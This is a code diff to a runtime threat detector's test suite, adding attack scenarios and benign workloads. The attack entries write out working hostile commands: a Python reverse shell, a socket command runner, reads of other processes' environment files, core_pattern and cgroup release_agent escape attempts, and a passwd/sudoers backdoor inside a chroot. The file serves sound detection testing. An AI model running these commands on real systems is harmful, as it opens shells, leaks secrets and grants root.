@@ -70,6 +70,25 @@ var Attacks = []Scenario{
 	{Name: "exploit-prep", Class: detector.ClassPrivesc, Desc: "keyctl, userfaultfd, perf_event_open", Cmd: []string{"{bin}/kernel_attack", "exploit-prep"}},
 	{Name: "wx-memory", Class: detector.ClassPrivesc, Desc: "mmap and mprotect with PROT_WRITE|PROT_EXEC", Cmd: []string{"{bin}/wx_memory"}},
 	{Name: "fileless-exec", Class: detector.ClassPrivesc, Desc: "exec of a program from a memfd", Cmd: []string{"{bin}/fileless"}},
+	// written apart from the rules (issue 12): other tools, other syscalls
+	{Name: "miner-niced-thread", Class: detector.ClassCPU, Desc: "one hashing thread, niced, under a name of its own, 8 s", Cmd: []string{"nice", "-n", "19", "{bin}/spinner", "1", "8"}},
+	{Name: "miner-duty-cycle", Class: detector.ClassCPU, Desc: "2 hashing threads sleeping 10 ms in every 30 (xmrig's thread hint), 10 s", Cmd: []string{"{bin}/spinner", "2", "10", "20", "10"}},
+	{Name: "python-reverse-shell", Class: detector.ClassNetwork, Desc: "python: connect, dup2 onto stdio, subprocess.call /bin/sh -i (a vfork child)", Cmd: []string{"/usr/bin/python3", "-c",
+		`import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",int(os.environ["PORT"])));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])`}, Env: []string{"PORT={port}"}},
+	{Name: "python-socket-commands", Class: detector.ClassNetwork, Desc: "python runs a command it read from a connected socket with the socket as its output, no shell", Cmd: []string{"/usr/bin/python3", "-c",
+		`import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",int(os.environ["PORT"])));l=s.makefile("rb").readline().decode();subprocess.run(l.split(";")[0].split(),stdout=s.fileno(),stderr=s.fileno())`}, Env: []string{"PORT={port}"}},
+	{Name: "perl-dns-foreign", Class: detector.ClassNetwork, Desc: "perl IO::Socket UDP query to 127.0.0.89:53 (no listener)", Cmd: []string{"perl", "-MIO::Socket::INET", "-e",
+		`$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.89:53",Proto=>"udp") or die; $s->send("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03foo\x00\x00\x01\x00\x01")`}},
+	{Name: "proc-pid-cwd", Class: detector.ClassFSEscape, Desc: "lists and reads below another process's /proc/PID/cwd", Cmd: []string{"sh", "-c", `sleep 3 & p=$!; ls /proc/$p/cwd/ >/dev/null; cat /proc/$p/cwd/etc/hostname >/dev/null 2>&1; kill $p`}},
+	{Name: "proc-environ", Class: detector.ClassFSEscape, Desc: "cat of other processes' /proc/PID/environ (pid 1, the parent)", Cmd: []string{"sh", "-c", `for p in 1 $PPID; do cat /proc/$p/environ >/dev/null 2>&1; done; true`}},
+	{Name: "core-pattern-write", Class: detector.ClassFSEscape, Desc: "as nobody, echo a pipe handler into core_pattern (refused)", Cmd: []string{"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", `echo "|/tmp/x %p" > /proc/sys/kernel/core_pattern; true`}},
+	{Name: "cgroup-mount-userns", Class: detector.ClassFSEscape, Desc: "unshare -Urm, mount of a cgroup v1 hierarchy (refused), release_agent written in its own directory", Cmd: []string{"unshare", "-Urm", "sh", "-c",
+		`d=$(mktemp -d); mount -t cgroup -o rdma cgroup $d 2>/dev/null; echo /tmp/x > $d/release_agent; echo 1 > $d/notify_on_release; rm -rf $d; true`}},
+	{Name: "proc-mem-open", Class: detector.ClassPrivesc, Desc: "python opens its child's /proc/PID/mem for writing (writes nothing)", Cmd: []string{"/usr/bin/python3", "-c",
+		`import subprocess;p=subprocess.Popen(["sleep","2"]);f=open("/proc/%d/mem"%p.pid,"r+b");f.close();p.kill()`}},
+	{Name: "su-as-nobody", Class: detector.ClassPrivesc, Desc: "as nobody, exec of the setuid su (fails: no terminal, no password)", Cmd: []string{"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "su", "-c", "id", "root"}},
+	{Name: "chroot-passwd", Class: detector.ClassPrivesc, Desc: "a user added to /etc/passwd and sudoers.d inside a throwaway root (chroot)", Cmd: []string{"sh", "-c",
+		`r=$(mktemp -d); mkdir -p $r/bin $r/etc/sudoers.d; cp /usr/bin/busybox $r/bin/; chroot $r /bin/busybox sh -c 'echo evil:x:0:0::/root:/bin/sh >> /etc/passwd; echo "evil ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/evil'; rm -rf $r`}},
 }
 
 // Benign is the corpus of everyday work: no run may get a verdict. The
@@ -122,6 +141,26 @@ var Benign = []Scenario{
 	corpus("ssh-keygen", false, "14 SSH keys, fingerprints, authorized_keys", []string{"ssh-keygen"}),
 	corpus("awk-crunch", true, "CPU-bound awk: 12 passes of statistics over 60k rows", []string{"awk"}, "data"),
 	corpus("csv-report", false, "coreutils ETL: sort, join, paste, cut, uniq over 60k rows", []string{"sort", "join", "paste"}, "data"),
+	// written apart from the rules (issue 12); those marked CI once raised verdicts
+	corpus("entrypoint-links", true, "an entrypoint: logs linked to /dev/stdout and /proc/self/fd/1, mtab to /proc/self/mounts, envsubst, exec", []string{"envsubst"}),
+	corpus("hw-inventory", true, "lscpu (DMI through /dev/mem), ls -l /dev /proc /proc/sys/kernel /sys/kernel, sysctl -a, df, findmnt", []string{"lscpu", "sysctl", "findmnt"}),
+	corpus("root-drops-user", true, "root drops to nobody: runuser, su, setpriv, python os.setresuid, perl", []string{"runuser", "su", "setpriv", "/usr/bin/python3", "perl"}),
+	corpus("static-lib-strip", true, "cc -c, ar, ranlib, ld -r, a shared library, strip, then the programs", []string{"make", "gcc", "ar", "strip"}),
+	corpus("sort-parallel", false, "sort --parallel=2 of 2M lines in memory, uniq -c, join, head", []string{"sort", "join"}),
+	corpus("bc-checksums", false, "bc computing pi, factor, sha256sum of 100 MB", []string{"bc", "factor", "sha256sum"}),
+	corpus("openssl-tls", false, "openssl genrsa, req, s_server and s_client over loopback TLS, curl -k, speed", []string{"openssl", "curl"}),
+	corpus("ps-monitor", false, "a monitoring sidecar: ps, top, free, vmstat, df, ss, /proc/PID/stat", []string{"ps", "top", "free"}),
+	corpus("libs-locale", false, "ldconfig -p, locale, iconv, getent, lscpu, getconf", []string{"ldconfig", "locale", "iconv"}),
+	corpus("find-exec-sed", false, "find -exec sed -i, xargs -0 awk, xargs -P2, grep -rl | md5sum", []string{"find", "xargs", "sed"}),
+	corpus("archive-formats", false, "tar through gzip, xz, zstd, lz4; zip/unzip; xz -T2", []string{"tar", "xz", "zstd", "lz4", "zip", "unzip"}),
+	corpus("logrotate-like", false, "numbered rotation with gzip, copytruncate with xz, pruning", []string{"gzip", "xz"}),
+	corpus("npm-pack-ci", false, "npm pack, npm install of the tarball, npm ci --offline, npm run, npx", []string{"npm", "node"}),
+	corpus("git-remote-ops", false, "git: bare remote, push, clone, rebase, bisect run, worktree, fsck, gc --aggressive", []string{"git"}),
+	corpus("gpg-sign", false, "gpg: batch key generation, detached signature, verify, symmetric encryption", []string{"gpg"}),
+	corpus("dpkg-query", false, "dpkg -l/-L/-S, dpkg-query, apt-cache policy/show/depends, apt-get -s", []string{"dpkg", "apt-cache"}),
+	corpus("python-http-curl", false, "python3 -m http.server with curl and wget on loopback", []string{"/usr/bin/python3", "curl", "wget"}),
+	corpus("perl-http", false, "a one-line Perl HTTP server (IO::Socket::INET) under 30 curl requests", []string{"perl", "curl"}),
+	corpus("journal-read", false, "journalctl reads (last lines, boots, errors as JSON, disk usage), last, dmesg", []string{"journalctl"}),
 }
 
 // corpus is a workload of benign/corpus: NAME.sh (dashes as
